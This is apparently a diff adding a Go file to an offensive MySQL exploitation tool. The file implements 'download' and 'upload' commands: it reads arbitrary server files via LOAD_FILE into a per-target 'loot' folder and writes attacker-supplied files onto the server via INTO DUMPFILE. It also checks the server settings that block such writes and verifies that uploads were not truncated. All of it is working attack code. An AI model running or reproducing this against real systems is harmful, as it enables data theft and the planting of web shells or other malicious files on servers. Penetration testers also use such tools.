@@ -0,0 +1,183 @@
+package core
+
+import (
+    "context"
+    "database/sql"
+    "encoding/hex"
+    "fmt"
+    "os"
+    "path"
+    "path/filepath"
+    "strings"
+)
+
+// splitShellArgs splits a shell meta-command into its words, allowing quoted words with spaces
+func splitShellArgs(cmd string) ([]string, error) {
+    var args []string
+    var current strings.Builder
+    var quote rune
+    inArg := false
+    for _, r := range strings.TrimSuffix(strings.TrimSpace(cmd), ";") {
+        switch {
+        case quote != 0:
+            if r == quote {
+                quote = 0
+                continue
+            }
+        case r == '\'' || r == '"':
+            quote = r
+            inArg = true
+            continue
+        case r == ' ' || r == '\t':
+            if inArg {
+                args = append(args, current.String())
+                current.Reset()
+                inArg = false
+            }
+            continue
+        }
+        current.WriteRune(r)
+        inArg = true
+    }
+    if quote != 0 {
+        return nil, fmt.Errorf("unterminated quote")
+    }
+    if inArg {
+        args = append(args, current.String())
+    }
+    return args, nil
+}
+
+// parseDownloadArgs splits "download <remote_path> [local_path]", defaulting the local path to
+// the target's loot directory
+func (e *Engine) parseDownloadArgs(cmd string) (remote, local string, err error) {
+    args, err := splitShellArgs(cmd)
+    if err != nil {
+        return "", "", err
+    }
+    if len(args) < 2 || len(args) > 3 {
+        return "", "", fmt.Errorf("usage: download <remote_path> [local_path]")
+    }
+    remote = args[1]
+    if len(args) == 3 {
+        local = args[2]
+    } else {
+        // Keep downloads with the rest of the target's loot
+        target := sanitizeFilename(fmt.Sprintf("%s_%d", e.opts.Host, e.opts.Port))
+        local = filepath.Join(e.opts.LootDir, target, "files", sanitizeFilename(strings.TrimLeft(remote, "/\\")))
+    }
+    return remote, local, nil
+}
+
+// downloadFile reads remote from the server's filesystem with LOAD_FILE and writes the bytes to
+// local. The content is transferred hex-encoded, so binary files survive the connection
+// character set unchanged. It returns the number of bytes written.
+func (e *Engine) downloadFile(ctx context.Context, sess *session, remote, local string) (int, error) {
+    rows, err := sess.query(ctx, "SELECT HEX(LOAD_FILE(?))", remote)
+    if err != nil {
+        return 0, err
+    }
+    var content sql.NullString
+    if rows.Next() {
+        err = rows.Scan(&content)
+    } else {
+        err = rows.Err()
+    }
+    rows.Close()
+    if err != nil {
+        return 0, err
+    }
+
+    if !content.Valid {
+        // LOAD_FILE gives no reason, so point at the usual ones
+        reason := "the file does not exist or mysqld cannot read it, the account lacks the FILE privilege, or the file is larger than max_allowed_packet"
+        var priv sql.NullString
+        if err := sess.queryRow(ctx, "SELECT @@secure_file_priv", &priv); err == nil {
+            switch {
+            case !priv.Valid:
+                reason += "; secure_file_priv is NULL, so file reads are disabled"
+            case priv.String != "":
+                reason += fmt.Sprintf("; secure_file_priv only allows files under %s", priv.String)
+            }
+        }
+        return 0, fmt.Errorf("LOAD_FILE returned NULL: %s", reason)
+    }
+
+    data, err := hex.DecodeString(content.String)
+    if err != nil {
+        return 0, fmt.Errorf("decoding file content: %v", err)
+    }
+    if err := e.makeRunDir(filepath.Dir(local), 0700); err != nil {
+        return 0, err
+    }
+    e.noteCreated(local)
+    if err := os.WriteFile(local, data, 0600); err != nil {
+        return 0, err
+    }
+    return len(data), nil
+}
+
+// parseUploadArgs splits "upload <local_path> <remote_path>"
+func parseUploadArgs(cmd string) (local, remote string, err error) {
+    args, err := splitShellArgs(cmd)
+    if err != nil {
+        return "", "", err
+    }
+    if len(args) != 3 {
+        return "", "", fmt.Errorf("usage: upload <local_path> <remote_path>")
+    }
+    return args[1], args[2], nil
+}
+
+// underDirectory reports whether the server path p is inside dir, comparing Windows paths
+// without regard to case or separator style
+func underDirectory(p, dir string) bool {
+    if strings.Contains(dir, "\\") || strings.Contains(dir, ":") {
+        p = strings.ToLower(strings.ReplaceAll(p, "\\", "/"))
+        dir = strings.ToLower(strings.ReplaceAll(dir, "\\", "/"))
+    }
+    p, dir = path.Clean(p), path.Clean(dir)
+    return p == dir || strings.HasPrefix(p, strings.TrimSuffix(dir, "/")+"/")
+}
+
+// uploadFile writes the local file to remote on the server with SELECT ... INTO DUMPFILE. The
+// content is sent as a hex literal so binary files are written byte for byte. secure_file_priv
+// and max_allowed_packet are checked first, so a refused write is explained rather than left to
+// a generic error. It returns the number of bytes written.
+func uploadFile(ctx context.Context, sess *session, local, remote string) (int, error) {
+    data, err := os.ReadFile(local)
+    if err != nil {
+        return 0, err
+    }
+
+    var priv sql.NullString
+    if err := sess.queryRow(ctx, "SELECT @@secure_file_priv", &priv); err == nil {
+        switch {
+        case !priv.Valid:
+            return 0, fmt.Errorf("secure_file_priv is NULL, the server does not allow file writes")
+        case priv.String != "" && !underDirectory(remote, priv.String):
+            return 0, fmt.Errorf("secure_file_priv only allows files under %s", priv.String)
+        }
+    }
+    var maxPacket int
+    if err := sess.queryRow(ctx, "SELECT @@max_allowed_packet", &maxPacket); err == nil {
+        // The hex literal doubles the size; leave room for the rest of the statement
+        if needed := 2*len(data) + len(remote) + 64; needed > maxPacket {
+            return 0, fmt.Errorf("file needs a %d byte statement, max_allowed_packet is %d", needed, maxPacket)
+        }
+    }
+
+    target := strings.ReplaceAll(strings.ReplaceAll(remote, "\\", "\\\\"), "'", "''")
+    query := fmt.Sprintf("SELECT X'%s' INTO DUMPFILE '%s'", hex.EncodeToString(data), target)
+    if _, err := sess.exec(ctx, query); err != nil {
+        return 0, err
+    }
+
+    // Read the size back when the account can, to catch truncated writes
+    var written sql.NullInt64
+    if err := sess.queryRow(ctx, fmt.Sprintf("SELECT LENGTH(LOAD_FILE('%s'))", target), &written); err == nil &&
+        written.Valid && int(written.Int64) != len(data) {
+        return 0, fmt.Errorf("wrote %d of %d bytes", written.Int64, len(data))
+    }
+    return len(data), nil
+}